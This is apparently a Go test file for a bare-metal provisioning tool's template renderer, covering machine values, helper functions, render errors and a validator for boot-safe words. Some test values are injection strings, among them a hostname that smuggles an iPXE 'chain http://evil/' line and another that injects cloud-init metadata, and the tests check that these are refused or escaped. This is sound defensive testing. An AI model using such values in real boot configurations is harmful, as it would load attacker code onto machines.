package profile

import (
	"errors"
	"strings"
	"testing"

	api "hearth.dev/hearth/api/v1alpha1"
)

const (
	keyAlice = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE7Xr3CV9ZJ6aJqzCgH8vxqPqVJ8Qz7kT9Y9A1d7Xh3F alice@laptop"
	keyBob   = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm3sWw5R4mP0pX1oV2n8K6t9YvJq3zLr4cB5dE7fH1a bob@desk"
)

// fixture is a machine, its profile and site with every value set.
func fixture() (*api.Machine, *api.MachineProfile, *api.Site) {
	m := machine("node1", map[string]string{"role": "storage", "rack": "r1"}, "52:54:00:aa:bb:01", api.ArchX86_64, "home")
	m.Spec.Hostname = "n1.lab.example"
	m.Spec.Approved = true
	m.Status.UUID = "4c4c4544-0042-3510-8052-b4c04f384d32"
	m.Status.Firmware = api.FirmwareUEFI
	m.Status.Addresses = []string{"10.0.0.5", "fd00::5"}
	p := prof("debian-install", api.MachineSelector{Labels: api.LabelSelector{"role": "storage"}}, 0)
	p.Spec.Install = true
	p.Spec.Initrds = []api.BootFile{{URL: "http://mirror/debian-install/initrd.gz"}}
	p.Spec.Files = []api.ProfileFile{{Name: "user-data", Template: "#cloud-config\n"}, {Name: "preseed.cfg", Template: "d-i\n"}}
	site := &api.Site{Metadata: api.ObjectMeta{Name: "home"}, Spec: api.SiteSpec{Tags: []string{"basement", "eu"}}}
	return m, p, site
}

func fixtureValues() Values {
	m, p, site := fixture()
	v := NewValues(m, p, site, ServerValues{BootURL: "http://10.0.0.2:8080/", APIURL: "https://10.0.0.2:6443"}, "b1")
	v.SSHKeys = []string{keyAlice, keyBob}
	v.Token = "hearth-machine-s3cret"
	return v
}

// TestRenderValues renders every documented value.
func TestRenderValues(t *testing.T) {
	v := fixtureValues()
	v.URLs.Kernel = "http://mirror/linux"
	v.URLs.Initrds = []string{"http://mirror/initrd.gz"}
	tests := []struct{ tmpl, want string }{
		{"{{ .Machine.Name }}", "node1"},
		{"{{ .Machine.UID }}", "uid-node1"},
		{"{{ .Machine.MAC }}", "52:54:00:aa:bb:01"},
		{"{{ .Machine.Arch }}", "x86_64"},
		{"{{ .Machine.Hostname }}", "n1.lab.example"},
		{"{{ .Machine.UUID }}", "4c4c4544-0042-3510-8052-b4c04f384d32"},
		{"{{ .Machine.Firmware }}", "uefi"},
		{"{{ .Machine.Site }}", "home"},
		{"{{ .Machine.Labels.role }}/{{ .Machine.Labels.rack }}", "storage/r1"},
		{"[{{ .Machine.Labels.missing }}]", "[]"},
		{`{{ index .Machine.Labels "role" }}`, "storage"},
		{"{{ index .Machine.IPs 0 }} {{ len .Machine.IPs }}", "10.0.0.5 2"},
		{"{{ .Profile.Name }} {{ .Profile.Install }}", "debian-install true"},
		{"{{ .Site.Name }}: {{ join \",\" .Site.Tags }}", "home: basement,eu"},
		{"{{ .Server.BootURL }} {{ .Server.APIURL }}", "http://10.0.0.2:8080/ https://10.0.0.2:6443"},
		{"{{ .URLs.Kernel }} {{ join \" \" .URLs.Initrds }}", "http://mirror/linux http://mirror/initrd.gz"},
		{"{{ .URLs.Script }}", "http://10.0.0.2:8080/machines/node1/boot.ipxe"},
		{"{{ .URLs.Boot }}", "http://10.0.0.2:8080/machines/node1/boots/b1"},
		{"{{ .URLs.FilesBase }}", "http://10.0.0.2:8080/machines/node1/boots/b1/files"},
		{`{{ index .URLs.Files "user-data" }}`, "http://10.0.0.2:8080/machines/node1/boots/b1/files/user-data"},
		{`{{ index .URLs.Files "preseed.cfg" }}`, "http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg"},
		{"{{ .URLs.Metadata }}", "http://10.0.0.2:8080/machines/node1/boots/b1/files/meta-data"},
		{"{{ .URLs.Report }}", "http://10.0.0.2:8080/machines/node1/boots/b1/report"},
		{"{{ range .SSHKeys }}{{ . }}\n{{ end }}", keyAlice + "\n" + keyBob + "\n"},
		{"{{ .Token }}", "hearth-machine-s3cret"},
		// The short forms the API's example profile uses.
		{"url={{ .FilesURL }}/preseed.cfg hostname={{ .Hostname }}", "url=http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg hostname=n1.lab.example"},
	}
	for _, tt := range tests {
		got, err := Render(tt.tmpl, v)
		if err != nil {
			t.Errorf("Render(%q): %v", tt.tmpl, err)
			continue
		}
		if got != tt.want {
			t.Errorf("Render(%q)\n got %q\nwant %q", tt.tmpl, got, tt.want)
		}
	}
}

func TestRenderFuncs(t *testing.T) {
	v := fixtureValues()
	v.Machine.Hostname = "it's \"odd\"\nhost"
	tests := []struct{ tmpl, want string }{
		{`{{ join ", " .Site.Tags }}`, "basement, eu"},
		{`{{ .Machine.Labels.zone | default "z1" }}`, "z1"},
		{`{{ .Machine.Labels.rack | default "z1" }}`, "r1"},
		{`{{ .Machine.IPs | default "none" | len }}`, "2"},
		{`{{ required "the machine needs a rack label" .Machine.Labels.rack }}`, "r1"},
		{`hostname: {{ quote .Machine.Hostname }}`, `hostname: "it's \"odd\"\nhost"`},
		{`echo {{ squote .Machine.Hostname }}`, "echo 'it'\\''s \"odd\"\nhost'"},
		{"keys:\n{{ toYAML .SSHKeys | indent 2 }}", "keys:\n  - \"" + keyAlice + "\"\n  - \"" + keyBob + "\""},
		{`{{ toYAML .Machine.Labels }}`, "rack: r1\nrole: storage"},
		{`{{ toYAML .Site }}`, "Name: home\nTags:\n  - basement\n  - eu"},
		{`{{ toYAML "yes" }} {{ toYAML "a: b" }} {{ toYAML "10:20" }} {{ toYAML "a\tb\n" }} {{ toYAML "Off" }}`, `"yes" "a: b" "10:20" "a\tb\n" "Off"`},
		{`{{ toYAML 3 }} {{ toYAML 1.5 }} {{ toYAML true }} {{ toYAML .Machine.Labels.none }} {{ toYAML nil }}`, `3 1.5 true "" null`},
		{`{{ toJSON .Machine.Labels }}`, `{"rack":"r1","role":"storage"}`},
		{`{{ toJSON .Site }}`, `{"Name":"home","Tags":["basement","eu"]}`},
		{`{{ upper .Machine.Labels.role }} {{ lower "ABC" }}`, "STORAGE abc"},
		{`{{ safeWord .Machine.MAC }}`, "52:54:00:aa:bb:01"},
		{`{{ if eq .Machine.Arch "x86_64" }}amd64{{ else }}arm64{{ end }}`, "amd64"},
		{`{{ printf "%s-%s" .Machine.Site .Machine.Name }}`, "home-node1"},
	}
	for _, tt := range tests {
		got, err := Render(tt.tmpl, v)
		if err != nil {
			t.Errorf("Render(%q): %v", tt.tmpl, err)
			continue
		}
		if got != tt.want {
			t.Errorf("Render(%q)\n got %q\nwant %q", tt.tmpl, got, tt.want)
		}
	}
}

func TestRenderErrors(t *testing.T) {
	v := fixtureValues()
	tests := []struct{ name, tmpl, want string }{
		{"misspelt field", "{{ .Machine.Hostnme }}", "can't evaluate field Hostnme"},
		{"unknown function", "{{ frobnicate . }}", `function "frobnicate" not defined`},
		{"required", `{{ required "the machine needs a zone label" .Machine.Labels.zone }}`, "the machine needs a zone label"},
		{"safeWord", `{{ safeWord .SSHKeys }}`, "is not a safe boot word: it contains whitespace"},
		{"output cap", `{{ range .SSHKeys }}{{ range $.SSHKeys }}{{ range $.SSHKeys }}{{ printf "%900000s" "" }}{{ end }}{{ end }}{{ end }}`, "renders more than 1048576 bytes"},
		{"syntax", "{{ .Machine.Name ", "unclosed action"},
	}
	for _, tt := range tests {
		_, err := Render(tt.tmpl, v)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: Render(%q) = %v, want an error containing %q", tt.name, tt.tmpl, err, tt.want)
		}
	}
}

func TestCheckWord(t *testing.T) {
	tests := []struct {
		s  string
		ok bool
	}{
		{"", true},
		{"node1.lab", true},
		{"http://mirror/debian/linux?arch=amd64&v=12", true},
		{"52:54:00:aa:bb:01", true},
		{"fd00::5", true},
		{"café", true},
		{"a b", false},
		{"a\tb", false},
		{"a\nchain http://evil/", false},
		{"a\r", false},
		{"a\x00b", false},
		{"\u00a0", false},
		{"a\u2028b", false},
		{"a\\", false},
		{`a"b`, false},
		{"a;b", false},
		{";", false},
		{"||", false},
		{"a|b", false},
		{"&&", false},
		{"a&&b", false},
		{"&a", false},
		{"a&", false},
		{"${password}", false},
		{"x${net0/mac}", false},
		{"#comment", false},
		{"a#b", true},
		{"\xff", false},
	}
	for _, tt := range tests {
		if why := CheckWord(tt.s); (why == "") != tt.ok {
			t.Errorf("CheckWord(%q) = %q, want ok=%v", tt.s, why, tt.ok)
		}
	}
}

// TestBootContextsRefuseUnsafeValues: in kernel args and iPXE scripts a
// value that could add a command or an argument is refused, with the
// action and why.
func TestBootContextsRefuseUnsafeValues(t *testing.T) {
	v := fixtureValues()
	v.Machine.Hostname = "n1\nchain http://evil/x.ipxe"
	for _, tmpl := range []string{
		"console=ttyS0 hostname={{ .Machine.Hostname }}",
		"{{ with .Machine }}hostname={{ .Hostname }}{{ end }}",
		"{{ range .Machine.IPs }}{{ end }}{{ if true }}{{ .Hostname }}{{ end }}",
		`{{ define "h" }}{{ .Hostname }}{{ end }}x={{ template "h" . }}`,
		"{{ .Machine.Hostname | printf \"%s\" }}",
	} {
		_, err := renderWords("spec.args", tmpl, v)
		var unsafe *UnsafeValueError
		if !errors.As(err, &unsafe) {
			t.Errorf("%q: got %v, want an UnsafeValueError", tmpl, err)
			continue
		}
		if unsafe.Value != v.Machine.Hostname || !strings.Contains(unsafe.Why, "line break") || !strings.HasPrefix(unsafe.Where, "spec.args:1:") {
			t.Errorf("%q: error %+v", tmpl, unsafe)
		}
	}
	_, err := renderWords("spec.args", "hostname={{ .Machine.Hostname }}", v)
	want := `spec.args:1:12: {{.Machine.Hostname}} printed "n1\nchain http://evil/x.ipxe", which cannot go into kernel args or an iPXE script: it contains a line break`
	if err == nil || err.Error() != want {
		t.Errorf("error\n got %v\nwant %s", err, want)
	}
	// Declarations print nothing, and the template's own text is free.
	got, err := renderWords("spec.ipxeScript", "#!ipxe\n{{ $h := .Machine.Hostname }}echo ${net0/mac} ; {{ .Machine.Name }} || exit\n", v)
	if err != nil || got != "#!ipxe\necho ${net0/mac} ; node1 || exit\n" {
		t.Errorf("got %q, %v", got, err)
	}
	// Files are not a boot context.
	if got, err := Render("hostname: {{ quote .Machine.Hostname }}", v); err != nil || got != `hostname: "n1\nchain http://evil/x.ipxe"` {
		t.Errorf("file: got %q, %v", got, err)
	}
}

func TestMetaData(t *testing.T) {
	v := fixtureValues()
	v.Machine.Hostname = "evil\ninstance-id: other"
	want := "instance-id: \"uid-node1\"\nlocal-hostname: \"evil\\ninstance-id: other\"\n"
	if got := MetaData(v); got != want {
		t.Errorf("MetaData\n got %q\nwant %q", got, want)
	}
}

func TestSelectSSHKeys(t *testing.T) {
	key := func(tenant, name, pub string, labels map[string]string) *api.SSHKey {
		return &api.SSHKey{Metadata: api.ObjectMeta{Tenant: tenant, Name: name, Labels: labels}, Spec: api.SSHKeySpec{PublicKey: pub}}
	}
	keys := []*api.SSHKey{
		key("lab", "bob", keyBob, map[string]string{"team": "ops"}),
		key("lab", "alice", keyAlice, map[string]string{"team": "ops"}),
		key("lab", "carol", keyAlice, map[string]string{"team": "dev"}),
		key("other", "mallory", keyBob, map[string]string{"team": "ops"}),
	}
	_, p, _ := fixture()
	if got := SelectSSHKeys(p, keys); got != nil {
		t.Errorf("a profile without a tenant got keys %v", got)
	}
	p.Spec.Tenant = "lab"
	p.Spec.SSHKeySelector = api.LabelSelector{"team": "ops"}
	got := SelectSSHKeys(p, keys)
	if len(got) != 2 || got[0] != keyAlice || got[1] != keyBob {
		t.Errorf("SelectSSHKeys = %q, want alice's then bob's", got)
	}
}
